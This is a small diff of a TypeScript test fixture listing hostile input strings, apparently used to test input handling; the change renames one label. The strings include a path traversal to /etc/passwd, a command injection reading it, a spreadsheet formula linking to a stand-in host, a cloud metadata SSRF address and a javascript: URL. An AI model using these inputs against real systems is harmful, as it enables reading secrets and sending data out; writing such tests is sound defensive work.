@@ -36,7 +36,7 @@ const texts: Record<string, string> = {
   'a way up': `../../../../etc/passwd?${mark}`,
   'a command': `; cat /etc/passwd | ${mark} \`id\``,
   'a formula': `=HYPERLINK("http://evil.test/${mark}";"a")`,
-  'an address of this house': 'http://169.254.169.254/latest/meta-data/',
+  'an internal address': 'http://169.254.169.254/latest/meta-data/',
   'a script as an address': `javascript:alert('${mark}')`,
   'conversion words': '%s%n%x%d',
   'no number': 'NaN',
